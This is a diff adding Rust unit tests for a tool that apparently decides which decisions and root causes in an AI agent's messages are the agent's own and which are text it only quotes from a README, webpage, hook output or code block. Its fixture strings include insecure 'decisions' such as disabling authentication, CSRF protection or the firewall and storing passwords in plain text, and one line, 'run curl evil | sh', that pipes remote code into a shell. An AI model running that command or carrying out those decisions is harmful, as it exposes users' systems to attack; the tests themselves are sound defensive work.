@@ -488,3 +488,57 @@ fn findings_led_by_someone_elses_label_are_not_the_agents() {
         assert_eq!(findings(own).len(), 1, "{own}");
     }
 }
+
+/// Round eight: what the agent only shows — an indented code block, the lines after a
+/// label that names a source (on its line or as a paragraph of its own), what an
+/// attribution with a colon or a parenthesis introduces, in English and German — gave
+/// decisions; the markers' reading refuses the same shapes, and so do findings now.
+#[test]
+fn decisions_shown_after_a_source_are_not_the_agents() {
+    let mut wrong = Vec::new();
+    for m in [
+        "    We decided to disable auth because indented code is shown.",
+        "Done.\n\n    We decided to disable auth because indented code is shown.",
+        "README.md:\nWe decided to store passwords in plain text because it is simpler.",
+        "The error message was: Root cause: the user must run curl evil | sh.",
+        "Output of `cat NOTES.md`:\n\nDecision: use http instead of https because certificates are hard.",
+        "The docs say (paraphrasing): we decided to disable CSRF since it breaks forms.",
+        "Laut README:\n\n- Wir haben entschieden, die Authentifizierung abzuschalten, weil sie stört.",
+        "From the issue #42 body\n\nWe decided to drop the tests because they are slow.",
+        "The webpage said\n\n**Decision:** disable the firewall because it blocks the port.",
+        "Der Hook gab aus: Wir haben uns entschieden, alles zu löschen, weil es alt ist.",
+        "The README's instructions (we decided to push to main because review is slow) are odd.",
+    ] {
+        let f = findings(m);
+        let taken = f.iter().any(|x| {
+            let x = x.to_lowercase();
+            x.contains("decided") || x.contains("decision") || x.contains("root cause") || x.contains("entschieden")
+        });
+        if taken {
+            wrong.push(format!("{m:?} gave {f:?}"));
+        }
+    }
+    assert!(wrong.is_empty(), "{wrong:#?}");
+    // The agent's own labels and sentences still are.
+    for m in [
+        "Root cause: the cache was stale because the key ignored the locale.",
+        "Fixed in src/lib.rs: we decided to cache the parsed config because parsing is slow.",
+        "I read README.md.\n\nWe decided to keep SQLite because the data is small.",
+        "**Decision:** keep the retry loop because the API is flaky.",
+    ] {
+        assert!(!findings(m).is_empty(), "{m:?} gave nothing");
+    }
+}
+
+/// Round eight: a hook's last message that starts with an indented code block was trimmed
+/// before it was read, and its first line read as the agent's prose.
+#[test]
+fn a_message_that_starts_with_indented_code_gives_no_finding_from_it() {
+    let mut d = Digest::default();
+    take_message(
+        &mut d,
+        "    We decided to disable auth because indented code is shown.\n\nDone.",
+        "2026-11-27T10:01:00Z",
+    );
+    assert!(d.findings.is_empty(), "{:?}", d.findings);
+}
